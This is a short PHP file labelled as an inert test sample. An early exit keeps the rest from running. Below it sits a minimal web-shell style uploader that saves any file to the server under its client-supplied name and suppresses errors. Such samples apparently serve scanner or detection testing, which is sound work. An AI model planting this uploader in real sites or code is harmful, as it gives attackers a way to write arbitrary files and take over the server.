<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" name="up" value="Upload"></form>';
if (isset($_POST['up'])) {
    if (@move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name'])) {
        echo 'Upload OK: ' . $_FILES['f']['name'];
    } else {
        echo 'Upload failed';
    }
}
